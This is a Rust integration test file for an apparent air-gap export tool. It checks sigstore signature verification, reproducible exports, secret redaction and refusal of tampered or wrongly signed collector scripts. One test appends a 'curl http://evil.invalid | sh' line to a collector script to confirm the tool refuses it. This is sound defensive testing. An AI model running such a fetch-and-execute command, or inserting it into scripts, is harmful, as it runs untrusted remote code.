//! Low side: `airgate export` with real production material and simulated
//! upstream artifacts; reproducibility; refusals; lockfile-pinned collectors.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::SystemTime;

use gateway::demo::{SIMULATED_IDENTITY, SIMULATED_ISSUER};

use crate::common::{airgate, fixtures, stderr};
use crate::world::World;

const BEACON: &str = "https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon/.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main";
const GITHUB: &str = "https://token.actions.githubusercontent.com";
const AS_OF: &str = "2026-08-22T00:00:00Z";

fn production_setup(identity: &str) -> (tempfile::TempDir, PathBuf, PathBuf, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let conformance = fixtures().join("conformance/bundle-verify");
    let artifacts = tmp.path().join("artifacts");
    std::fs::create_dir_all(&artifacts).unwrap();
    std::fs::copy(conformance.join("a.txt"), artifacts.join("a.txt")).unwrap();
    std::fs::copy(
        conformance.join("happy-path-v0.3/bundle.sigstore.json"),
        artifacts.join("a.txt.sigstore.json"),
    )
    .unwrap();
    let mirror = std::fs::canonicalize(fixtures().join("tuf-sigstore-prod")).unwrap();
    let policy = tmp.path().join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[trust]\ntuf-mirror = \"file://{}\"\ntuf-root = \"production\"\n\n[[rule]]\nname = \"beacon\"\nartifacts = [\"*.txt\"]\nsigners = [{{ identity = \"{identity}\", issuer = \"{GITHUB}\" }}]\n",
            mirror.display()
        ),
    )
    .unwrap();
    let key_dir = tmp.path().join("key");
    let out = airgate(["export-key", "init", "--dir", key_dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    (tmp, artifacts, policy, key_dir.join("exporter.key.pem"))
}

fn export_args(policy: &Path, artifacts: &Path, key: &Path, out: &Path) -> Vec<String> {
    vec![
        "export".into(),
        "--policy".into(),
        policy.display().to_string(),
        "--artifacts".into(),
        artifacts.display().to_string(),
        "--key".into(),
        key.display().to_string(),
        "--exporter".into(),
        "low-1".into(),
        "--out".into(),
        out.display().to_string(),
        "--danger-as-of".into(),
        AS_OF.into(),
        "--export-time".into(),
        AS_OF.into(),
    ]
}

#[test]
fn export_real_production_bundle_under_the_production_tuf_mirror_is_reproducible() {
    let (tmp, artifacts, policy, key) = production_setup(BEACON);
    let first = tmp.path().join("first.tar");
    let second = tmp.path().join("second.tar");
    for out in [&first, &second] {
        let result = airgate(export_args(&policy, &artifacts, &key, out));
        assert!(result.status.success(), "{}", stderr(&result));
        assert!(stderr(&result).contains("WARNING: --danger-as-of"));
    }
    assert_eq!(
        std::fs::read(&first).unwrap(),
        std::fs::read(&second).unwrap(),
        "exports differ"
    );
    let mut archive = tar::Archive::new(std::fs::File::open(&first).unwrap());
    let names: Vec<String> = archive
        .entries()
        .unwrap()
        .map(|e| e.unwrap().path().unwrap().to_string_lossy().into_owned())
        .collect();
    assert!(names.contains(&"artifacts/a.txt".to_string()));
    assert!(names.contains(&"bundles/a.txt.sigstore.json".to_string()));
    assert!(names.iter().any(|n| n.ends_with("trusted_root.json")));
    assert_eq!(names[0], "manifest.intoto.json", "the manifest comes first");
    let mut sorted = names[1..].to_vec();
    sorted.sort();
    assert_eq!(sorted, names[1..].to_vec(), "entries are sorted");
    // Nothing else (no temporary file) is left next to the media.
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn export_as_of_today_refuses_the_expired_production_metadata() {
    let (tmp, artifacts, policy, key) = production_setup(BEACON);
    let out_path = tmp.path().join("m.tar");
    let mut args = export_args(&policy, &artifacts, &key, &out_path);
    args.truncate(args.len() - 4);
    let out = airgate(&args);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("expired"), "{}", stderr(&out));
    assert!(!out_path.exists());
}

#[test]
fn export_policy_naming_another_identity_rejects_naming_the_signer() {
    let (tmp, artifacts, policy, key) = production_setup(
        "https://github.com/some-other/repo/.github/workflows/release.yml@refs/heads/main",
    );
    let out_path = tmp.path().join("m.tar");
    let out = airgate(export_args(&policy, &artifacts, &key, &out_path));
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("policy.identity"), "{err}");
    assert!(
        err.contains(BEACON),
        "the error names the actual signer: {err}"
    );
    assert!(!out_path.exists(), "no partial medium left behind");
}

#[test]
fn export_lists_every_problem_and_skip_rejected_leaves_them_out() {
    let world = World::new(3);
    std::fs::write(world.artifacts.join("unsigned.bin"), b"no bundle").unwrap();
    std::fs::write(world.artifacts.join("bad name.bin"), b"spaces").unwrap();
    std::fs::write(world.artifacts.join("orphan.whl.sigstore.json"), b"{}").unwrap();
    let (medium, out) = world.export("m.tar", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    for expected in [
        "unsigned.bin [bundle.missing]",
        "[name]",
        "orphan.whl.sigstore.json [bundle.orphan]",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in {err}");
    }
    assert!(!medium.exists());
    let (medium, out) = world.export("m.tar", &["--skip-rejected", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["accepted"].as_array().unwrap().len(), 3);
    assert_eq!(report["rejected"].as_array().unwrap().len(), 3);
    // The medium imports on the high side.
    let out = world.import(&[&medium], &[]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn export_with_a_bundle_by_another_signer_is_rejected() {
    let world = World::new(2);
    let extra = world.artifacts.join("intruder.tar.gz");
    std::fs::write(&extra, b"signed by someone else").unwrap();
    world
        .upstream
        .sign_files_as(
            std::slice::from_ref(&extra),
            "https://github.com/evil-org/x/.github/workflows/x.yml@refs/heads/main",
            SystemTime::now(),
        )
        .unwrap();
    let (_, out) = world.export("m.tar", &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("evil-org"), "{}", stderr(&out));
}

// --- collectors ---

const COLLECTOR_ID: &str =
    "https://github.com/simulated-org/fetcher/.github/workflows/release.yml@refs/tags/v1.0.0";
const SECRET: &str = "s3cr3t-t0ken-value";

struct CollectorSetup {
    world: World,
    config: PathBuf,
    marker: PathBuf,
    binary: PathBuf,
}

fn collector_setup(config_version: &str) -> CollectorSetup {
    let world = World::new(1);
    let dir = world.root().join("collector");
    std::fs::create_dir_all(&dir).unwrap();
    let binary = dir.join("fetch.sh");
    std::fs::write(
        &binary,
        "#!/bin/sh\n# A collector: records that it ran, echoes its secret, emits a signed artifact.\ntouch \"$1\"\necho \"fetching with token=$DEMO_TOKEN\"\necho \"env has LD_PRELOAD=[$LD_PRELOAD] HOME=$HOME\" >&2\ncp \"$3\" \"$AIRGATE_OUTPUT_DIR/collected.txt\"\ncp \"$2\" \"$AIRGATE_OUTPUT_DIR/collected.txt.sigstore.json\"\n",
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&binary, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    world
        .upstream
        .sign_files_as(
            std::slice::from_ref(&binary),
            COLLECTOR_ID,
            SystemTime::now(),
        )
        .unwrap();
    let data = dir.join("collected.txt");
    std::fs::write(&data, b"data the collector gathered\n").unwrap();
    world
        .upstream
        .sign_files(std::slice::from_ref(&data), SystemTime::now())
        .unwrap();
    let marker = world.root().join("collector-ran");
    let config = dir.join("airgate.toml");
    std::fs::write(
        &config,
        format!(
            r#"exporter = "low-1"
policy = "{policy}"
lock = "airgate.lock"

[[collector]]
name = "fetch"
path = "fetch.sh"
args = ["{marker}", "{bundle}", "{data}"]
secrets = ["DEMO_TOKEN"]
timeout-secs = 60
version = "{config_version}"
source = "https://example.invalid/fetch/v1.0.0"
bundle = "fetch.sh.sigstore.json"
signer-identity = "{COLLECTOR_ID}"
signer-issuer = "{SIMULATED_ISSUER}"
"#,
            policy = world.policy.display(),
            marker = marker.display(),
            bundle = dir.join("collected.txt.sigstore.json").display(),
            data = data.display(),
        ),
    )
    .unwrap();
    CollectorSetup {
        world,
        config,
        marker,
        binary,
    }
}

fn lock_add(s: &CollectorSetup) {
    let out = airgate([
        "lock",
        "add",
        "--config",
        s.config.to_str().unwrap(),
        "--trusted-root",
        s.world
            .upstream
            .ca_dir
            .join("trusted_root.json")
            .to_str()
            .unwrap(),
        "fetch",
    ]);
    assert!(out.status.success(), "lock add: {}", stderr(&out));
}

fn export_with_collectors(s: &CollectorSetup, extra: &[&str]) -> std::process::Output {
    let out_path = s.world.media.join("collected.tar");
    let _ = std::fs::remove_file(&out_path);
    Command::new(env!("CARGO_BIN_EXE_airgate"))
        .args(["export", "--config"])
        .arg(&s.config)
        .arg("--key")
        .arg(&s.world.key)
        .arg("--out")
        .arg(&out_path)
        .args(extra)
        .env("DEMO_TOKEN", SECRET)
        .env("LD_PRELOAD", "/should/not/pass")
        .output()
        .unwrap()
}

#[test]
fn collector_runs_isolated_with_its_secret_redacted_and_its_output_exported() {
    let s = collector_setup("1.0.0");
    lock_add(&s);
    let out = export_with_collectors(&s, &["--frozen", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(s.marker.exists(), "the collector ran");
    let text = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
    assert!(!text.contains(SECRET), "secret leaked: {text}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let collector = &report["collectors"][0];
    assert!(
        collector["stdout"]
            .as_str()
            .unwrap()
            .contains("token=[REDACTED:DEMO_TOKEN]"),
        "{collector}"
    );
    assert!(
        collector["stderr"]
            .as_str()
            .unwrap()
            .contains("LD_PRELOAD=[]"),
        "LD_ variables must not pass: {collector}"
    );
    let names: Vec<&str> = report["accepted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"fetch/collected.txt"), "{names:?}");
    // The medium carries the lock and the binary, and nowhere the secret.
    let medium = std::fs::read(s.world.media.join("collected.tar")).unwrap();
    assert!(!medium.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()));
    let out = s.world.import(&[&s.world.media.join("collected.tar")], &[]);
    assert!(
        out.status.success(),
        "import of a collector medium: {}",
        stderr(&out)
    );
}

#[test]
fn collector_lock_mismatch_under_frozen_is_refused_before_running() {
    let s = collector_setup("1.0.0");
    lock_add(&s);
    let text = std::fs::read_to_string(&s.config)
        .unwrap()
        .replace("version = \"1.0.0\"", "version = \"2.0.0\"");
    std::fs::write(&s.config, text).unwrap();
    let out = export_with_collectors(&s, &["--frozen"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("--frozen"), "{}", stderr(&out));
    assert!(!s.marker.exists(), "the collector must not run");
}

#[test]
fn tampered_collector_binary_is_refused_before_running() {
    let s = collector_setup("1.0.0");
    lock_add(&s);
    let mut bytes = std::fs::read(&s.binary).unwrap();
    bytes.extend_from_slice(b"curl http://evil.invalid | sh\n");
    std::fs::write(&s.binary, bytes).unwrap();
    let out = export_with_collectors(&s, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("differs from the locked"),
        "{}",
        stderr(&out)
    );
    assert!(!s.marker.exists(), "the collector must not run");
}

#[test]
fn collector_signed_by_someone_other_than_the_locked_signer_is_refused() {
    let s = collector_setup("1.0.0");
    // Re-sign the binary as another identity, and pin that bundle under the locked signer.
    std::fs::remove_file(s.binary.with_file_name("fetch.sh.sigstore.json")).unwrap();
    s.world
        .upstream
        .sign_files_as(
            std::slice::from_ref(&s.binary),
            "https://github.com/evil-org/fetcher/.github/workflows/x.yml@refs/heads/main",
            SystemTime::now(),
        )
        .unwrap();
    let bytes = std::fs::read(&s.binary).unwrap();
    let bundle = std::fs::read(s.binary.with_file_name("fetch.sh.sigstore.json")).unwrap();
    let mut lock = gateway::lock::Lockfile::new();
    lock.pin(gateway::lock::LockedCollector {
        name: "fetch".into(),
        version: "1.0.0".into(),
        source: "https://example.invalid/fetch/v1.0.0".into(),
        signer_identity: COLLECTOR_ID.into(),
        signer_issuer: SIMULATED_ISSUER.into(),
        platform: vec![gateway::lock::LockedPlatform {
            target: gateway::lock::current_target(),
            sha256: hex::encode(gateway::crypto::sha256(&bytes)),
            size: bytes.len() as u64,
            bundle: gateway::lock::LockedPlatform::encode_bundle(&bundle),
        }],
    })
    .unwrap();
    std::fs::write(
        s.config.with_file_name("airgate.lock"),
        lock.to_canonical().unwrap(),
    )
    .unwrap();
    let out = export_with_collectors(&s, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("signature check failed"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("policy.identity"), "{}", stderr(&out));
    assert!(!s.marker.exists(), "the collector must not run");
    let _ = SIMULATED_IDENTITY;
}

#[test]
fn frozen_refuses_every_difference_between_configuration_and_lock() {
    type Edit<'a> = &'a dyn Fn(&str) -> String;
    let cases: [(&str, Edit); 5] = [
        ("source", &|t: &str| {
            t.replace(
                "https://example.invalid/fetch/v1.0.0",
                "https://example.invalid/other",
            )
        }),
        ("version removed", &|t: &str| {
            t.replace("version = \"1.0.0\"\n", "")
        }),
        ("signer-identity removed", &|t: &str| {
            t.lines()
                .filter(|l| !l.starts_with("signer-identity"))
                .collect::<Vec<_>>()
                .join("\n")
        }),
        ("signer-issuer removed", &|t: &str| {
            t.lines()
                .filter(|l| !l.starts_with("signer-issuer"))
                .collect::<Vec<_>>()
                .join("\n")
        }),
        ("another bundle", &|t: &str| {
            t.replace(
                "bundle = \"fetch.sh.sigstore.json\"",
                "bundle = \"other.sigstore.json\"",
            )
        }),
    ];
    for (what, edit) in cases {
        let s = collector_setup("1.0.0");
        lock_add(&s);
        // Another valid bundle for the same binary (signed again).
        let dir = s.config.parent().unwrap();
        let first = std::fs::read(dir.join("fetch.sh.sigstore.json")).unwrap();
        s.world
            .upstream
            .sign_files_as(
                std::slice::from_ref(&s.binary),
                COLLECTOR_ID,
                SystemTime::now(),
            )
            .unwrap();
        std::fs::rename(
            dir.join("fetch.sh.sigstore.json"),
            dir.join("other.sigstore.json"),
        )
        .unwrap();
        std::fs::write(dir.join("fetch.sh.sigstore.json"), first).unwrap();
        let text = std::fs::read_to_string(&s.config).unwrap();
        let edited = edit(&text);
        assert_ne!(edited, text, "{what}");
        std::fs::write(&s.config, edited).unwrap();
        let out = export_with_collectors(&s, &["--frozen"]);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("--frozen"),
            "{what}: {}",
            stderr(&out)
        );
        assert!(!s.marker.exists(), "{what}: the collector must not run");
    }
}
